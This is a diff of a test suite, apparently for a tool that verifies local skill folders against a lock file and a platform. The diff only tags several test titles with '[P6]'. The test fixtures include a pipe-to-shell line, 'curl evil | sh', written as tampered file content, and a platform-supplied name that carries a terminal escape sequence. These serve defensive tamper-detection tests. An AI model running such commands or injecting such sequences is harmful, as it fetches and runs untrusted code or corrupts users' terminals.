@@ -75,7 +75,7 @@ describe('verifying', () => {
 });
 
 describe('refused with 3 is', () => {
-  test('a version that holds something else, and which files differ where the folder still knows', async () => {
+  test('a version that holds something else, and which files differ where the folder still knows [P6]', async () => {
     await replaceContent('s-3', withFile('s-3/a.txt', 'curl evil | sh\n'));
     await replaceContent('s-7', withFile('s-7/extra.sh', 'x'));
     await put('s-7/a.txt', 'changed here');
@@ -94,7 +94,7 @@ describe('refused with 3 is', () => {
     expect(stderr).not.toMatch(/s-[01245689]:/);
   });
 
-  test('one byte more in one file, and an empty file more', async () => {
+  test('one byte more in one file, and an empty file more [P6]', async () => {
     await replaceContent('s-0', withFile('s-0/a.txt', '0\n\n'));
     await replaceContent('s-1', withFile('s-1/b.txt', ''));
     const { exit, stderr } = await verify();
@@ -103,7 +103,7 @@ describe('refused with 3 is', () => {
     expect(stderr).toContain('; b.txt is only on the platform\n');
   });
 
-  test('a version that is gone', async () => {
+  test('a version that is gone [P6]', async () => {
     const { skillId, versionId } = await locked('s-4');
     await client().skills.delete(skillId);
     const { exit, stderr } = await verify();
@@ -118,7 +118,7 @@ describe('refused with 3 is', () => {
     expect([exit, stderr]).toEqual([3, expect.stringContaining('is the key one of the workspace')]);
   });
 
-  test('a version that the platform has under another name', async () => {
+  test('a version that the platform has under another name [P6]', async () => {
     const { skillId, versionId } = await locked('s-5');
     platform.control.tamper(`GET /v1/skills/${skillId}/versions/${versionId}`, (json) => ({
       ...(json as object),
@@ -128,7 +128,7 @@ describe('refused with 3 is', () => {
     expect([exit, stderr]).toEqual([3, expect.stringContaining('has the name "s-6\\u001b[2J" on the platform')]);
   });
 
-  test('what was altered, also where the rest could not be looked at', async () => {
+  test('what was altered, also where the rest could not be looked at [P6]', async () => {
     await replaceContent('s-0', withFile('s-0/a.txt', 'x'));
     const { skillId } = await locked('s-9');
     platform.control.faults.add({
@@ -194,7 +194,7 @@ describe('ends with 1 where', () => {
 });
 
 describe('is not fine where', () => {
-  test('there is no lock, an empty one, or a broken one: nothing is asked', async () => {
+  test('there is no lock, an empty one, or a broken one: nothing is asked [P6]', async () => {
     const empty = join(home, 'empty.json');
     await writeFile(empty, '{"lock_version":1,"skills":{}}');
     for (const argv of [[join(home, 'nowhere')], ['--lock', empty, skills], [skills, home]]) {
